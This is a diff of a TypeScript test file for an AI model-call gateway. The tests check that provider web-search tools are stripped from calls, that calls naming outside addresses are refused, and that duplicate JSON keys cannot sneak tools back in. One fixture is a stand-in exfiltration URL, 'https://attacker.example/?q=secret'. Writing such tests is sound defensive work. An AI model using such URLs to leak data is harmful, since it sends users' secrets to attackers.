@@ -54,8 +54,10 @@ const origin = () => `http://127.0.0.1:${(service.address() as AddressInfo).port
 
 type Access = { token: string; attemptId: AttemptId; credential: Credential }
 
+type Wanted = { wire: Credential['wire']; key?: string; tenantId?: string; providerTools?: boolean }
+
 /** A live attempt that may call the service. */
-async function grantAccess(input: { wire: Credential['wire']; key?: string; tenantId?: string }): Promise<Access> {
+async function grantAccess(input: Wanted): Promise<Access> {
   const tenantId = input.tenantId ?? LOCAL_TENANT
   const attemptId = (await insertWork(db, tenantId)).attemptId as AttemptId
   await db.sql('delete from sentra.model_calls where attempt_id = $1', [attemptId])
@@ -69,7 +71,12 @@ async function grantAccess(input: { wire: Credential['wire']; key?: string; tena
       { app, principal },
       { name, wire: input.wire, baseUrl, key: input.key ?? KEY },
     )
-    return { token: await issueGrant(tx, { attemptId, credentialId: credential.id }), attemptId, credential }
+    const providerTools = input.providerTools ?? false
+    return {
+      token: await issueGrant(tx, { attemptId, credentialId: credential.id, providerTools }),
+      attemptId,
+      credential,
+    }
   })
 }
 
@@ -165,7 +172,7 @@ test('a call whose server was killed has an end once its attempt is over, a late
   const access = await grantAccess({ wire: 'openai' })
   const { attemptId, credential } = access
   const ids = await inTenant(app.database, LOCAL_TENANT, async (tx) => {
-    const lost = { attemptId, credentialId: credential.id, path: '/v1/responses', model: null }
+    const lost = { attemptId, credentialId: credential.id, path: '/v1/responses' }
     return [await startModelCall(tx, lost), await startModelCall(tx, lost)]
   })
   const late = { status: 200, error: null, inputTokens: 1, cachedInputTokens: 0, outputTokens: 1 }
@@ -187,7 +194,7 @@ test('what a service says of its models or of counting tokens is not how the mod
       ['/v1/messages/count_tokens', 501],
       ['/v1/models', 403],
     ] as const) {
-      const id = await startModelCall(tx, { attemptId, credentialId: credential.id, path, model: null })
+      const id = await startModelCall(tx, { attemptId, credentialId: credential.id, path })
       await endModelCall(tx, id, { ...outcome, status })
     }
     return findLastModelCall(tx, attemptId)
@@ -216,7 +223,9 @@ describe('is refused in the words of its provider, and nothing reaches the servi
 
   test('the token of an earlier lease', async () => {
     const { token, attemptId, credential } = await grantAccess({ wire: 'openai' })
-    await inTenant(app.database, LOCAL_TENANT, (tx) => issueGrant(tx, { attemptId, credentialId: credential.id }))
+    await inTenant(app.database, LOCAL_TENANT, (tx) =>
+      issueGrant(tx, { attemptId, credentialId: credential.id, providerTools: false }),
+    )
     expect(await refusal(await call(token, '/v1/responses'))).toMatchObject({ status: 403 })
     expect(seen).toEqual([])
   })
@@ -255,6 +264,80 @@ describe('is refused in the words of its provider, and nothing reaches the servi
     expect(await send(Buffer.alloc(33 * 1024 * 1024))).toBe(413)
     expect(seen).toEqual([])
   })
+})
+
+describe('what the service would do with its own network', () => {
+  const search = { type: 'web_search', external_web_access: true }
+  const own = { type: 'function', name: 'exec_command', parameters: {} }
+  const page = { role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/?q=secret' }] }
+  const linesOf = ({ attemptId }: Access) =>
+    db.sql('select level, message from sentra.logs where attempt_id = $1 and line > 1 order by line', [attemptId])
+
+  beforeEach(() => {
+    answer = (_request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
+  })
+
+  test('is taken out of a call; its record says so each time, the log of the run once', async () => {
+    const access = await grantAccess({ wire: 'openai' })
+    for (const input of ['first', 'second']) {
+      const response = await call(access.token, '/v1/responses', { model: 'm', input, tools: [own, search] })
+      expect([response.statusCode, await text(response)]).toEqual([200, '{}'])
+    }
+    expect(seen.map(({ body }) => JSON.parse(body))).toEqual([
+      { model: 'm', input: 'first', tools: [own] },
+      { model: 'm', input: 'second', tools: [own] },
+    ])
+    const removed = `select removed_tools from sentra.model_calls where attempt_id = $1 and removed_tools <> '{}'`
+    await expect.poll(() => db.sql(removed, [access.attemptId])).toHaveLength(2)
+    expect(await linesOf(access)).toEqual([
+      { level: 'info', message: expect.stringContaining('Left out of model calls: web_search.') },
+    ])
+  })
+
+  test('is refused in words where the call names an address, and nothing reaches the service', async () => {
+    const access = await grantAccess({ wire: 'openai' })
+    const response = await call(access.token, '/v1/responses', { model: 'm', input: [page] })
+    expect(response.statusCode).toBe(400)
+    expect(JSON.parse(await text(response))).toMatchObject({
+      error: { type: 'invalid_request_error', message: expect.stringMatching(/image_url.*--provider-tools allow/) },
+    })
+    expect(seen).toEqual([])
+    expect(await endedCallOf(access)).toMatchObject({
+      model: 'm',
+      status: 400,
+      error: expect.stringContaining('address'),
+    })
+    expect(await linesOf(access)).toEqual([{ level: 'warn', message: expect.stringContaining('was refused') }])
+  })
+
+  test('passes as it came when a person allowed it', async () => {
+    const access = await grantAccess({ wire: 'openai', providerTools: true })
+    const body = { model: 'm', input: [page], tools: [search] }
+    const response = await call(access.token, '/v1/responses', body)
+    expect([response.statusCode, await text(response)]).toEqual([200, '{}'])
+    expect(seen.map((one) => JSON.parse(one.body))).toEqual([body])
+    await endedCallOf(access)
+    expect(await linesOf(access)).toEqual([])
+  })
+
+  test('does not slip in as a second field of the same name', async () => {
+    const { token } = await grantAccess({ wire: 'openai' })
+    const headers = { 'content-type': 'application/json; charset=utf-7', [MODEL_TOKEN_HEADER]: token }
+    const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/responses', headers })
+    outgoing.end(`{"tools":[${JSON.stringify(search)}],"model":"m","tools":[${JSON.stringify(own)}]}`)
+    await once(outgoing, 'response')
+    expect(seen[0]?.body).not.toContain('web_search')
+    expect(seen[0]?.headers['content-type']).toBe('application/json')
+  })
+})
+
+test('who may not call is told so before its body has come', async () => {
+  const headers = { [MODEL_TOKEN_HEADER]: 'guess', 'content-length': 1_000_000 }
+  const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/messages', headers })
+  outgoing.flushHeaders()
+  const [response] = (await once(outgoing, 'response')) as [IncomingMessage]
+  expect(response.statusCode).toBe(403)
+  outgoing.destroy()
 })
 
 describe('when the service fails', () => {
